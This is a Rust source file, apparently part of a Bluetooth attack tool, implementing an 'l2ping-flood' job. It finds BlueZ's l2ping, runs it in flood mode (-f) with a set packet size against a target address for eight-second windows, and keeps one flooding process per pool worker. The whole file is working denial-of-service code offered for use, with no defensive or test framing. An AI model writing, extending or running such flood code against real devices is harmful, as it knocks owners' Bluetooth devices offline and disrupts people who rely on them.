//! Echo-request flood through the BlueZ `l2ping` utility
//!
//! Each attempt runs `l2ping -f` for a fixed window and then kills it, so
//! the pool keeps one flooding process per worker.

use crate::bluetooth::parse_address;
use anyhow::{anyhow, Result};
use async_trait::async_trait;
use bleeding_core::{AttemptContext, AttemptReport, Job, JobError, Target};
use std::io;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;
use tokio::process::Command;
use tokio::time::timeout;
use tracing::debug;

/// How long a single `l2ping` run floods before it is killed
pub const PING_WINDOW: Duration = Duration::from_secs(8);

const PROGRAM: &str = "l2ping";

/// Look an executable up on `PATH`
pub fn find_program(name: &str) -> Option<PathBuf> {
    let paths = std::env::var_os("PATH")?;
    find_in(std::env::split_paths(&paths), name)
}

fn find_in(dirs: impl IntoIterator<Item = PathBuf>, name: &str) -> Option<PathBuf> {
    dirs.into_iter()
        .map(|dir| dir.join(name))
        .find(|candidate| is_executable(candidate))
}

fn is_executable(path: &Path) -> bool {
    std::fs::metadata(path)
        .map(|meta| meta.is_file() && meta.permissions().mode() & 0o111 != 0)
        .unwrap_or(false)
}

pub struct PingFlood {
    program: PathBuf,
    interface: String,
    address: String,
    size: usize,
    window: Duration,
}

impl PingFlood {
    /// Fails when the address is malformed or `l2ping` is not installed
    pub fn new(interface: impl Into<String>, target: &Target) -> Result<Self> {
        let program = find_program(PROGRAM).ok_or_else(|| {
            anyhow!("{PROGRAM} not installed, please install the BlueZ utilities first")
        })?;
        Self::with_program(program, interface, target)
    }

    fn with_program(
        program: impl AsRef<Path>,
        interface: impl Into<String>,
        target: &Target,
    ) -> Result<Self> {
        let address = parse_address(target.address())?;
        Ok(Self {
            program: program.as_ref().to_path_buf(),
            interface: interface.into(),
            address: address.to_string(),
            size: target.payload_size(),
            window: PING_WINDOW,
        })
    }

    /// Arguments passed to `l2ping`
    pub fn args(&self) -> Vec<String> {
        vec![
            "-i".to_string(),
            self.interface.clone(),
            "-s".to_string(),
            self.size.to_string(),
            "-f".to_string(),
            self.address.clone(),
        ]
    }

    fn command(&self) -> Command {
        let mut cmd = Command::new(&self.program);
        cmd.args(self.args())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .kill_on_drop(true);
        cmd
    }
}

fn spawn_error(err: io::Error) -> JobError {
    match err.kind() {
        io::ErrorKind::NotFound => JobError::fatal(format!("{PROGRAM} not found: {err}")),
        io::ErrorKind::PermissionDenied => {
            JobError::fatal(format!("{PROGRAM} is not executable: {err}"))
        }
        io::ErrorKind::WouldBlock | io::ErrorKind::OutOfMemory => {
            JobError::transient("No resource available, try with less threads")
        }
        _ => JobError::from_io(err),
    }
}

#[async_trait]
impl Job for PingFlood {
    fn name(&self) -> &'static str {
        "l2ping-flood"
    }

    async fn attempt(
        &self,
        _target: &Target,
        ctx: &AttemptContext<'_>,
    ) -> Result<AttemptReport, JobError> {
        let logger = ctx.logger();
        ctx.info(format!(
            "Pinging {} with {} byte packets via {}",
            logger.good(&self.address),
            logger.value(self.size),
            logger.value(&self.interface)
        ));

        let mut child = self.command().spawn().map_err(spawn_error)?;

        match timeout(self.window, child.wait()).await {
            Err(_) => {
                // Window over: the flood ran for its full duration
                if let Err(e) = child.kill().await {
                    debug!(worker = %ctx.worker(), error = %e, "l2ping already gone");
                }
                Ok(AttemptReport::sent(self.size))
            }
            Ok(Ok(status)) if status.success() => Ok(AttemptReport::sent(self.size)),
            Ok(Ok(status)) => Err(JobError::transient(format!("{PROGRAM} exited with {status}"))),
            Ok(Err(e)) => Err(JobError::from_io(e)),
        }
    }
}
